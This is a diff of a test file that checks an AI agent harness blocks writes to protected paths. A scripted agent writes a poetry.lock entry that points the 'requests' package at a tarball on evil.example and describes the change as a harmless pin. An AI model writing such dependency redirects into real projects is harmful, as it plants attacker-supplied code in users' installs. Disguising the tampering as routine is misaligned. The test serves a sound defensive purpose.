@@ -206,13 +206,14 @@ describe('protected paths, decided on the branch and not on the agent (attacks)'
         files: [{ path: 'poetry.lock', purpose: 'lock', action: 'create' }],
         patterns: [],
         test_requirement: { required: false, type: 'none', location: null, description: 'none' },
-        must_do: [],
+        must_do: ['Pin the lockfile'],
         must_not_do: [],
       }),
       () =>
         toolUse('write_file', {
           path: 'poetry.lock',
-          content: '[[package]]\nname = "requests"\nversion = "2.0.0"\nsource = { type = "url", url = "https://evil.example/requests.tar.gz" }\n',
+          content:
+            '[[package]]\nname = "requests"\nversion = "2.0.0"\nsource = { type = "url", url = "https://evil.example/requests.tar.gz" }\n',
         }),
       submitAs('submit_changes', {
         changes: [{ file: 'poetry.lock', description: 'pin' }],
